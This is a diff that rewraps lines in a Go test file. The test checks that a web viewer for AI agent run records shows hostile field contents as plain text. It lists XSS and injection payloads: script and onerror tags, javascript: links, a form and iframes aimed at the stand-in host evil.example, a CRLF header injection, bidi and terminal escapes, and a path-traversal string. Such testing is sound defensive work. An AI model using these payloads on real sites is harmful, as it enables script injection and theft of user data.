@@ -20,16 +20,25 @@ import (
 	"github.com/actlog/actlog/record"
 )
 
-// payloads are texts that would do harm on a page which takes them for more than texts: they set hit, or ask another host.
+// payloads are texts that would do harm on a page which takes them for more than texts: they set hit, or ask another
+// host.
 var payloads = []string{
-	`<script>window.hit=1</script>`, `"><img src=x onerror=window.hit=1>`, `'"></textarea></title></style></pre></bdi></template><svg/onload=window.hit=1>`, `javascript:window.hit=1`,
-	`</pre><iframe src="//evil.example"></iframe>`, `<iframe srcdoc="<script>parent.hit=1</script>">`, `<a href="javascript:window.hit=1">x</a>`, `<!--`, `]]><style>*{display:none}</style>`,
-	`<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><input name=key><button>go</button>`,
-	`{"a":"</script><base href=//evil.example>"}`, `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">`,
-	`<details open ontoggle=window.hit=1>`, `<div style="background:url(//evil.example)" onpointerover=window.hit=1>`, `</bdi></bdo><bdo dir=rtl>`, "\u202eevil\u2066\u2069\u200b\ufeff",
-	"\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b[2J", "a\x00b\xff\xfe", "\r\n\r\nSet-Cookie: hit=1", "a\tb\u2028c\u2029d", `&lt;script&gt; &#60;b&#62; &#x202e;`, `{{.}} ${7*7} {% raw %}`,
-	`../../etc/passwd?x#y&at=z%00%2f`, `![x](https://evil.example/x.png) [y](javascript:window.hit=1) <https://evil.example> [z](//evil.example "t\" onclick=\"window.hit=1")`,
-	"[ref] ![ref]\n\n[ref]: javascript:window.hit=1", "```html\n<script>window.hit=1</script>\n```", "<https://evil.example/\"onload=window.hit=1>", `data:text/html,<script>window.hit=1</script>`,
+	`<script>window.hit=1</script>`, `"><img src=x onerror=window.hit=1>`,
+	`'"></textarea></title></style></pre></bdi></template><svg/onload=window.hit=1>`, `javascript:window.hit=1`,
+	`</pre><iframe src="//evil.example"></iframe>`, `<iframe srcdoc="<script>parent.hit=1</script>">`,
+	`<a href="javascript:window.hit=1">x</a>`, `<!--`, `]]><style>*{display:none}</style>`,
+	`<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
+	`<form action=//evil.example><input name=key><button>go</button>`,
+	`{"a":"</script><base href=//evil.example>"}`,
+	`<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">`,
+	`<details open ontoggle=window.hit=1>`, `<div style="background:url(//evil.example)" onpointerover=window.hit=1>`,
+	`</bdi></bdo><bdo dir=rtl>`, "\u202eevil\u2066\u2069\u200b\ufeff",
+	"\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b[2J", "a\x00b\xff\xfe", "\r\n\r\nSet-Cookie: hit=1",
+	"a\tb\u2028c\u2029d", `&lt;script&gt; &#60;b&#62; &#x202e;`, `{{.}} ${7*7} {% raw %}`,
+	`../../etc/passwd?x#y&at=z%00%2f`,
+	`![x](https://evil.example/x.png) [y](javascript:window.hit=1) <https://evil.example> [z](//evil.example "t\" onclick=\"window.hit=1")`,
+	"[ref] ![ref]\n\n[ref]: javascript:window.hit=1", "```html\n<script>window.hit=1</script>\n```",
+	"<https://evil.example/\"onload=window.hit=1>", `data:text/html,<script>window.hit=1</script>`,
 }
 
 // poison sets every field of a row that may hold a text to the first of some values that it takes.
@@ -73,7 +82,9 @@ func set(f *field.Field, c record.Change, value string) bool {
 		at.Set(reflect.ValueOf([]string{value, value}))
 		return taken()
 	case field.JSON:
-		for _, form := range []string{`{%[1]s:%[1]s,"list":[%[1]s,{"deep":%[1]s}]}`, `[{"label":%[1]s,"value":%[1]s}]`, `%[1]s`} {
+		for _, form := range []string{
+			`{%[1]s:%[1]s,"list":[%[1]s,{"deep":%[1]s}]}`, `[{"label":%[1]s,"value":%[1]s}]`, `%[1]s`,
+		} {
 			at.SetBytes(fmt.Appendf(nil, form, quoted))
 			if taken() {
 				return true
@@ -101,22 +112,35 @@ func quote(s string) string {
 	return b.String()
 }
 
-// poisoned returns a run with rows of every kind, whose texts are the first of some values that they take. Its prompts are
-// texts, and lists of messages in several forms.
+// poisoned returns a run with rows of every kind, whose texts are the first of some values that they take. Its prompts
+// are texts, and lists of messages in several forms.
 func poisoned(root string, values ...string) []record.Change {
 	last := values[len(values)-1] // short enough for an id
 	step, failed := "step "+last, new(record.Failed)
 	q := quote(values[0])
 	changes := []record.Change{
-		&record.Plan{RootPlanID: root, CurrentPlanID: root, ParentPlanID: new(""), ToolCallID: new(""), State: failed, StartTime: storetest.At(0), EndTime: storetest.At(9)},
+		&record.Plan{
+			RootPlanID: root, CurrentPlanID: root, ParentPlanID: new(""), ToolCallID: new(""), State: failed,
+			StartTime: storetest.At(0), EndTime: storetest.At(9),
+		},
 		&record.AgentExecution{RootPlanID: root, PlanID: root, StepID: step, State: failed, StartTime: storetest.At(0)},
 		&record.ThinkAct{RootPlanID: root, StepID: step, Seq: 0, State: failed},
 		&record.ThinkAct{RootPlanID: root, StepID: step, Seq: 1, State: failed, Attempt: new(int64(2)),
 			ThinkInput: new(fmt.Sprintf(`[{"role":%[1]s,"name":%[1]s,"content":%[1]s},{"role":"user","content":[{"type":"text","text":%[1]s},{"type":%[1]s,%[1]s:%[1]s}]},`+
 				`{"role":"assistant","content":%[1]s,"tool_calls":[{"id":%[1]s,"function":{"name":%[1]s,"arguments":%[1]s}}]},{"role":"tool","tool_call_id":%[1]s,"content":%[1]s,"status":"error"}]`, q)),
-			ThinkOutput: new(fmt.Sprintf(`{"role":"assistant","parts":[{"type":"reasoning","content":%[1]s},{"text":%[1]s},{"call":{"id":"none","name":%[1]s,"arguments":%[1]s}}],%[1]s:%[1]s}`, q))},
-		&record.ThinkAct{RootPlanID: root, StepID: step, Seq: 2, ThinkInput: new(fmt.Sprintf(`[{"role":%[1]s,"name":%[1]s,"content":%[1]s},{"role":"user","content":"new"}]`, q))},
-		&record.ActTool{RootPlanID: root, StepID: step, Seq: 1, ToolCallID: last, State: failed, Attempt: new(int64(2)), StartTime: storetest.At(1), EndTime: storetest.At(2)},
+			ThinkOutput: new(
+				fmt.Sprintf(
+					`{"role":"assistant","parts":[{"type":"reasoning","content":%[1]s},{"text":%[1]s},{"call":{"id":"none","name":%[1]s,"arguments":%[1]s}}],%[1]s:%[1]s}`, q,
+				),
+			)},
+		&record.ThinkAct{
+			RootPlanID: root, StepID: step, Seq: 2,
+			ThinkInput: new(fmt.Sprintf(`[{"role":%[1]s,"name":%[1]s,"content":%[1]s},{"role":"user","content":"new"}]`, q)),
+		},
+		&record.ActTool{
+			RootPlanID: root, StepID: step, Seq: 1, ToolCallID: last, State: failed, Attempt: new(int64(2)),
+			StartTime: storetest.At(1), EndTime: storetest.At(2),
+		},
 		&record.Plan{RootPlanID: root, CurrentPlanID: root + " sub", ParentPlanID: &root, ToolCallID: &last, State: failed},
 		&record.Wait{RootPlanID: root, PlanID: root, WaitID: last, StepID: &step, ToolCallID: new("")},
 		&record.Thought{RootPlanID: root, PlanID: root},
@@ -136,8 +160,8 @@ func poisoned(root string, values ...string) []record.Change {
 // all returns a few payloads that have place in a name, and all payloads.
 func all() (short, long string) { return strings.Join(payloads[:3], " "), strings.Join(payloads, "\n") }
 
-// crawl follows all links of a site from some pages on, checks each page, and returns their paths. The tree is looked at unfolded
-// in one way only.
+// crawl follows all links of a site from some pages on, checks each page, and returns their paths. The tree is looked
+// at unfolded in one way only.
 func (s *site) crawl(from ...string) (paths []string) {
 	s.t.Helper()
 	seen := map[string]bool{}
@@ -149,7 +173,8 @@ func (s *site) crawl(from ...string) (paths []string) {
 			s.t.Errorf("%s: %v", path, err)
 			continue
 		}
-		if seen[u.Path+"?"+u.Query().Encode()] || strings.HasPrefix(path, "/assets/") || u.Query().Has("fold") || u.Scheme != "" ||
+		if seen[u.Path+"?"+u.Query().Encode()] || strings.HasPrefix(path, "/assets/") || u.Query().Has("fold") ||
+			u.Scheme != "" ||
 			u.Path == "/charts" && u.RawQuery != "" || u.Path == "/" && u.Query().Has("until") { // the same for other times
 			continue
 		}
@@ -159,7 +184,8 @@ func (s *site) crawl(from ...string) (paths []string) {
 			s.download(path)
 			continue
 		case strings.HasSuffix(u.Path, "/records"): // no page either: browsers keep it as a file
-			if got := s.send("GET", path, ""); got.StatusCode != http.StatusOK || got.Header.Get("Content-Type") != "application/x-ndjson" || got.Header.Get("X-Content-Type-Options") != "nosniff" {
+			if got := s.send("GET", path, ""); got.StatusCode != http.StatusOK ||
+				got.Header.Get("Content-Type") != "application/x-ndjson" || got.Header.Get("X-Content-Type-Options") != "nosniff" {
 				s.t.Errorf("GET %s: %d %v", path, got.StatusCode, got.Header)
 			}
 			continue
@@ -183,7 +209,9 @@ func (s *site) download(path string) {
 	s.t.Helper()
 	got := s.send("GET", path, "")
 	h := got.Header
-	if got.StatusCode != http.StatusOK || h.Get("Content-Type") != "text/plain; charset=UTF-8" || !strings.HasPrefix(h.Get("Content-Disposition"), "attachment; filename=") || h.Get("X-Content-Type-Options") != "nosniff" {
+	if got.StatusCode != http.StatusOK || h.Get("Content-Type") != "text/plain; charset=UTF-8" ||
+		!strings.HasPrefix(h.Get("Content-Disposition"), "attachment; filename=") ||
+		h.Get("X-Content-Type-Options") != "nosniff" {
 		s.t.Errorf("GET %s: %d %v", path, got.StatusCode, h)
 	}
 	if _, err := io.Copy(io.Discard, got.Body); err != nil {
@@ -191,8 +219,8 @@ func (s *site) download(path string) {
 	}
 }
 
-// TestHostileRows: whatever models and tools wrote, in whatever field, is text on the page, and nothing else. For that, its bytes
-// are shown as they are on record.
+// TestHostileRows: whatever models and tools wrote, in whatever field, is text on the page, and nothing else. For that,
+// its bytes are shown as they are on record.
 func TestHostileRows(t *testing.T) {
 	pgtest.NotRaced(t, "nothing runs in parallel in it; it checks what a page shows")
 	t.Parallel()
